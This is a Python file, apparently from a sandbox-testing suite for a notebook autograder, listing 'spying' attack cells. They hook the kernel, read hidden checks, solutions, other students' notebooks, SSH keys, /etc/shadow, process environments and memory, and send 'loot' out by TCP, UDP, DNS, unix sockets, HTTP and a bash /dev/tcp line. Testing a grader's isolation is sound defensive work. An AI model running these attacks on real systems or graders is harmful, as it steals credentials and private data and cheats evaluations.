"""Attacks that want to know what is not theirs.

Most of them give a right answer to `double` if they find what they look for, so that the score says whether they did.
"""

from __future__ import annotations

from textwrap import dedent, indent

from attacks.base import Family

attack = Family("spying")

# The grader's questions

attack.cells(
    "record every cell",
    "Registers a hook that records all code that the kernel is asked to run, decodes it and prints it.",
    8,
    double="""
        import base64, re

        seen = []
        get_ipython().events.register("pre_run_cell", lambda info: seen.append(info.raw_cell))

        def double(x):
            return x
    """,
    below={
        "test_noise": """
            for source in seen:
                print(source[:3000])
                for word in re.findall(r"[A-Za-z0-9+/=]{80,}", source):
                    print(base64.b64decode(word)[:3000])
        """
    },
)
attack.cells(
    "record every message",
    "Wraps the kernel's handlers, below IPython, and prints all requests that came with their metadata.",
    8,
    double="""
        kernel, seen = get_ipython().kernel, []
        read = kernel.session.deserialize

        def recorded(*args, **kwargs):
            message = read(*args, **kwargs)
            seen.append(repr(message)[:3000])
            return message

        kernel.session.deserialize = recorded

        def double(x):
            return x
    """,
    below={"test_noise": "print(*seen, sep='\\n')"},
)
attack.cells(
    "record every question",
    "Wraps the function that answers the grader's questions, and prints requests, stack and local names.",
    8,
    double="""
        import sys
        import autograde.harness as harness

        answer, seen = harness.execute, []

        def recorded(namespace, request):
            frame = sys._getframe()
            while frame:
                seen.append((frame.f_code.co_filename, sorted(frame.f_locals)))
                frame = frame.f_back
            seen.append(harness.decode(request))
            return answer(namespace, request)

        harness.execute = recorded

        def double(x):
            return x
    """,
    below={"test_noise": "print(*seen, sep='\\n')"},
)
attack.cells(
    "print the check",
    "Prints the source of whatever calls the answer, as inspect and linecache give it.",
    8,
    double="""
        import inspect, linecache, sys

        seen = []

        def double(x):
            frame = sys._getframe()
            while frame:
                try:
                    seen.append(inspect.getsource(frame))
                except (OSError, TypeError):
                    pass
                frame = frame.f_back
            seen.extend("".join(entry[2]) for entry in linecache.cache.values() if len(entry) > 2)
            return 2 * x if any(source.startswith("@check") for source in seen) else x
    """,
    below={"test_noise": "print(*[source for source in seen if source.startswith('@check')])"},
)

# Files


def reads(name: str, aim: str, *paths: str) -> None:
    """Add the attack that wins by reading any of these files."""
    attack.cells(
        name,
        aim,
        8,
        double=f"""
            import glob, os

            loot = ""
            for pattern in {paths!r}:
                for path in glob.glob(pattern, include_hidden=True):
                    if os.path.realpath(path).startswith(os.getcwd()):
                        continue
                    try:
                        loot += open(path, errors="replace").read(100_000)
                    except OSError as error:
                        print(type(error).__name__)
            print(loot)

            def double(x):
                return 2 * x if loot else x
        """,
    )


reads(
    "read the solution",
    "Prints the assignment with its solution from the course's folder.",
    "$WORLD/course/solutions/*/target.py",
    "../solutions/*/target.py",
    "../../solutions/*/target.py",
)
reads("read the checks", "Prints the hidden checks.", "$WORLD/course/solutions/*/checks.py")
reads(
    "read the course's tests",
    "Prints the tests of the solutions, which lie in the course as a package.",
    "$WORLD/course/tests/*.py",
    "$WORLD/tmp/*/library/tests/*.py",
    "/tmp/*/library/tests/*.py",
)
reads(
    "read other submissions",
    "Prints what the others of the class handed in.",
    "$CLASS/emmy/target/*.ipynb",
    "$CLASS/*/*/*.ipynb",
    "../../*/target/*.ipynb",
)
reads(
    "read other work folders",
    "Prints the notebooks in the folders of the kernels that run beside this one.",
    "../../*/*/*.ipynb",
    "$WORLD/tmp/*/*/*.ipynb",
)
reads(
    "read the gradebook",
    "Prints the gradebook, the report with the seeds' secret, and what an earlier run left.",
    "$WORLD/out*/report.json",
    "$WORLD/out*/gradebook.db",
    "$WORLD/out*/previous.txt",
    "$WORLD/last/*",
)
reads("read the grader's home", "Prints keys and settings in the home of whoever grades.", "$WORLD/home/.ssh/*")
attack.cells(
    "read passwords",
    "Opens the system's password hashes.",
    8,
    double="""
        won = False
        for path in ("/etc/shadow", "/etc/gshadow", "/etc/sudoers"):
            try:
                won = won or bool(open(path).read(1))
            except OSError as error:
                print(error)

        def double(x):
            return 2 * x if won else x
    """,
)
attack.cells(
    "read through links",
    "Makes links to the secrets in its own folder, and reads those.",
    8,
    double="""
        import os

        loot = ""
        for number, path in enumerate(("course/solutions/target/checks.py", "home/.ssh/key", "out/report.json")):
            for link in (os.symlink, os.link):
                try:
                    link("$WORLD/" + path, f"link{number}")
                    loot += open(f"link{number}").read()
                except OSError as error:
                    print(type(error).__name__)
        print(loot)

        def double(x):
            return 2 * x if loot else x
    """,
)
attack.cells(
    "read by magic",
    "Prints the checks by IPython's magics, a shell, and a page that is made from a file.",
    8,
    double="""
        from IPython.display import HTML, display

        path = "$WORLD/course/solutions/target/checks.py"
        loot = get_ipython().getoutput(f"cat {path}; find $WORLD /tmp /home -name checks.py", split=False)
        print(loot)
        %pycat $WORLD/course/solutions/target/checks.py
        try:
            display(HTML(filename=path))
            loot += "imported"
        except OSError as error:
            print(error)

        def double(x):
            return 2 * x if "import" in loot else x
    """,
)

# Processes and their environments

attack.cells(
    "read its own environment",
    "Prints its environment, as Python and as the kernel know it, to find a password of the grader's.",
    8,
    double="""
        import os

        own = os.environ.get("$VARIABLE", "") + open("/proc/self/environ").read()
        print(own, dict(os.environ))

        def double(x):
            return 2 * x if "$VARIABLE" in own else x
    """,
)
attack.cells(
    "read the first process's environment",
    "Prints the environment of process 1 and of its own parent.",
    8,
    double="""
        import os

        loot = ""
        for number in (1, os.getppid()):
            try:
                loot += open(f"/proc/{number}/environ").read()
            except OSError as error:
                print(type(error).__name__)
        print(loot)

        def double(x):
            return 2 * x if "$VARIABLE" in loot else x
    """,
)
attack.cells(
    "read every environment",
    "Goes through all processes that it sees and prints their environments, command lines and open files.",
    8,
    double="""
        import glob, os

        loot = ""
        for pattern in ("/proc/[0-9]*/environ", "/proc/[0-9]*/task/*/environ", "/proc/[0-9]*/cmdline"):
            for path in glob.glob(pattern):
                try:
                    loot += open(path, errors="replace").read()
                except OSError:
                    pass
        for path in glob.glob("/proc/[0-9]*/fd/*") + glob.glob("/proc/[0-9]*/cwd"):
            try:
                loot += os.readlink(path)
            except OSError:
                pass
        print(loot[:20_000])
        won = "$VARIABLE" in loot or "--out" in loot or "gradebook.db" in loot

        def double(x):
            return 2 * x if won else x
    """,
)
attack.cells(
    "read through another process's root",
    "Opens the checks through the root and working folders of other processes.",
    8,
    double="""
        import glob

        loot = ""
        for door in ("root", "cwd"):
            for path in glob.glob(f"/proc/[0-9]*/{door}"):
                for rest in ("$WORLD/course/solutions/target/checks.py", "solutions/target/checks.py"):
                    try:
                        loot += open(f"{path}/{rest}").read()
                    except OSError:
                        pass
        print(loot)

        def double(x):
            return 2 * x if loot else x
    """,
)
attack.cells(
    "read open files",
    "Reads every file that its own process, and the one that started it, left open.",
    8,
    double="""
        import os

        loot = b""
        for number in range(3, 256):
            try:
                loot += os.pread(number, 100_000, 0)
            except OSError:
                pass
        print(loot[:20_000])
        won = b"SQLite format" in loot or b"cases" in loot or b"secret" in loot

        def double(x):
            return 2 * x if won else x
    """,
)
attack.cells(
    "search its own memory",
    "Searches the memory of its own process for what the process it was made from may have read.",
    8,
    status="graded|timeout",  # hundreds of megabytes
    double=r"""
        import re

        # Written so that neither pattern finds itself.
        loot = re.compile(rb"GRADEBOOK_PASSWOR[D]=[0-9a-f]{24}|# [0-9a-f]{24}\n    return 2 [*] x")
        won = False
        with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
            for line in maps:
                start, end, mode = re.match(r"(\w+)-(\w+) (\S+)", line).groups()
                start, size = int(start, 16), int(end, 16) - int(start, 16)
                if mode.startswith("rw") and size < 2**26:
                    try:
                        memory.seek(start)
                        found = loot.search(memory.read(size))
                    except (OSError, ValueError, OverflowError):
                        continue
                    if found:
                        won = True
                        print(found)

        def double(x):
            return 2 * x if won else x
    """,
)

# The network


def connects(name: str, aim: str, source: str) -> None:
    """Add the attack that wins when one of its messages leaves the machine's kernel without an error."""
    lines = indent(dedent(source).strip(), " " * 16)
    attack.cells(
        name,
        aim,
        8,
        double=f"""
            import socket

            won = False
            try:
{lines}
                won = True
            except OSError as error:
                print(error)

            def double(x):
                return 2 * x if won else x
        """,
    )


connects(
    "call home by TCP",
    "Connects to a server on the grader's machine and sends what it knows.",
    'socket.create_connection(("127.0.0.1", $TCP), timeout=1).sendall(b"loot by TCP")',
)
# A datagram that nobody gets is sent without an error all the same: the listener decides.
attack.cells(
    "call home by UDP",
    "Sends a datagram to the grader's machine.",
    10,
    below={
        "test_double": """
            import socket

            try:
                socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"loot by UDP", ("127.0.0.1", $UDP))
            except OSError as error:
                print(error)
        """
    },
)
attack.cells(
    "ask a name server",
    "Hides what it knows in the name that it asks a name server for.",
    10,
    below={
        "test_double": """
            import socket

            name = b"".join(bytes([len(word)]) + word for word in (b"loot", b"by", b"DNS", b"invalid")) + bytes(1)
            question = bytes.fromhex("000101000001000000000000") + name + bytes.fromhex("00010001")
            for port in (53, $UDP):
                try:
                    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(question, ("127.0.0.1", port))
                except OSError as error:
                    print(error)
        """
    },
)
connects(
    "call home by a unix socket",
    "Connects to a socket file of another program on the grader's machine.",
    'door = socket.socket(socket.AF_UNIX)\ndoor.connect("$SOCKET")\ndoor.sendall(b"loot by a socket file")',
)
connects(
    "call home by an abstract socket",
    "Connects to a socket that has a name and no file, which no file system hides.",
    'door = socket.socket(socket.AF_UNIX)\ndoor.connect("\\0$ABSTRACT")\ndoor.sendall(b"loot by an abstract socket")',
)
attack.cells(
    "listen to the machine",
    "Looks at the network devices and the open connections of the grader's machine.",
    8,
    double="""
        import socket

        table = open("/proc/net/tcp").read() + open("/proc/net/unix").read()
        devices = [name for _, name in socket.if_nameindex()]
        print(devices, table[:5000])
        won = "$ABSTRACT" in table or f"{$TCP:04X}" in table

        def double(x):
            return 2 * x if won else x
    """,
)
attack.cells(
    "fetch a page",
    "Asks for a page by HTTP, through urllib and through a program of the system.",
    8,
    double="""
        import subprocess, urllib.request

        won = False
        try:
            urllib.request.urlopen("http://127.0.0.1:$TCP/loot", timeout=1).read()
            won = True
        except OSError as error:
            print(error)
        script = "exec 3<>/dev/tcp/127.0.0.1/$TCP && echo loot by a shell >&3"
        won = won or subprocess.run(["bash", "-c", script], capture_output=True, timeout=2).returncode == 0

        def double(x):
            return 2 * x if won else x
    """,
)
